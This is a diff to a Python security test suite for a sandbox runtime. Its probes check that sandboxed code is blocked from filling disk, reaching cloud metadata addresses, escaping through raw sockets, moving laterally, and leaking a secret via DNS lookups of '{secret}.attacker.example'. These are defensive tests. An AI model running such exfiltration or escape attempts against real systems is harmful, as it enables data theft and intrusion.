@@ -8,12 +8,11 @@ bpf-net/dns events) come with issue 6: add them as further columns of the
 same probes with `network=` set on the sandbox.
 """
 import os
-import shutil
 import time
 
 import warren
 from conftest import enc
-from redlib import parse, probe
+from redlib import net, net_event, parse, probe
 
 LIMITS = {"memory_mb": 64, "pids": 64, "disk_mb": 16}
 
@@ -62,7 +61,7 @@ def test_c_membomb(ctx):
 
 @probe("c-disk")
 def test_c_disk(ctx):
-    free0 = {p: shutil.disk_usage(p).free for p in ("/", "/tmp", "/var")}
+    disk0 = ctx.rt.disk_bytes(ctx.rt.d.root)
     lim = _limits(ctx, disk_mb=16, memory_mb=256)
     if ctx.container:
         where = ["/tmp", "/" if ctx.uid == 0 else "/home/user"]
@@ -80,8 +79,11 @@ def test_c_disk(ctx):
                 "diskfill errno=EFBIG" in r.stdout, (d, r)
     r = ctx.run(["wr-probe", "inodefill", where[0]], limits=lim, timeout=120)
     assert r.reason == "oom" or "inodefill errno=ENOSPC" in r.stdout, r.stdout
-    for p, f in free0.items():
-        assert shutil.disk_usage(p).free > f - (64 << 20), f"host {p} lost space"
+    # the sandbox's files live in its own tmpfs (charged to its memory), not
+    # on a host filesystem: the daemon's directories did not grow. (Free
+    # space of / is no measure on a machine shared with other builds.)
+    grew = ctx.rt.disk_bytes(ctx.rt.d.root) - disk0
+    assert grew < 8 << 20, f"daemon directories grew {grew} bytes"
 
 
 @probe("c-fds")
@@ -149,8 +151,9 @@ def test_c_linger(ctx):
 @probe("d-metadata")
 def test_d_metadata(ctx):
     got = ctx.outcomes(ctx.probe("egress", "169.254.169.254", "fd00:ec2::254", 80), "egress")
-    assert got["tcp4"] == got["tcp6"] == "ENETUNREACH", got
-    assert parse(ctx.probe("connect-tcp", "100.100.100.200", 80)[0])[1] == "ENETUNREACH"
+    assert got["tcp4"] == got["tcp6"] == net("connect"), got
+    assert parse(ctx.probe("connect-tcp", "100.100.100.200", 80)[0])[1] == net("connect")
+    net_event(ctx, "connect")
 
 
 @probe("d-dns-exfil")
@@ -159,19 +162,22 @@ def test_d_dns_exfil(ctx):
     lines = ctx.probe("dns", f"{secret}.attacker.example", "8.8.8.8", "1.1.1.1",
                       "2001:4860:4860::8888")
     for ln in lines:
-        if ln.startswith(("dns udp53", "dns tcp53", "dns doh443")):
-            assert ln.split()[-1] == "ENETUNREACH", ln
+        if ln.startswith(("dns udp53", "dns tcp53")):
+            assert ln.split()[-1] == net("sendto" if "udp" in ln else "connect"), ln
+        elif ln.startswith("dns doh443"):
+            assert ln.split()[-1] == net("connect"), ln
     assert lines[-1] == "dns resolvers count=0", lines
+    net_event(ctx, "connect")
 
 
 @probe("d-egress-bypass")
 def test_d_egress_bypass(ctx):
     got = ctx.outcomes(ctx.probe("egress", "1.1.1.1", "2606:4700:4700::1111", 443), "egress")
-    assert got["tcp4"] == got["tcp6"] == "ENETUNREACH", got
-    assert got["udp4-sendto"] == got["udp6-sendto"] == "ENETUNREACH", got
-    # ping sockets: no group may use them in the sandbox's namespace
-    assert got["icmp-dgram"] == "EACCES", got
-    assert got["raw-icmp"] == got["raw-ip"] == got["packet"] == "EPERM", got
+    assert got["tcp4"] == got["tcp6"] == net("connect"), got
+    assert got["udp4-sendto"] == got["udp6-sendto"] == net("sendto"), got
+    assert got["icmp-dgram"] == net("icmp-dgram"), got
+    assert got["raw-icmp"] == got["raw-ip"] == got["packet"] == net("raw"), got
+    net_event(ctx, "sendmsg")
 
 
 @probe("d-abstract-unix")
@@ -186,7 +192,7 @@ def test_d_lateral(ctx):
     rt = ctx.rt
     for addr in rt.v4 + rt.v6 + ["10.0.0.1", "172.17.0.1"]:
         _, outcome, _ = parse(ctx.probe("connect-tcp", addr, rt.d.port)[0])
-        assert outcome == "ENETUNREACH", (addr, outcome)
+        assert outcome == net("connect"), (addr, outcome)
     # the victim sandbox (another tenant) has no address we can reach, and
     # nothing of it is visible here
     lines = ctx.probe("procwalk")
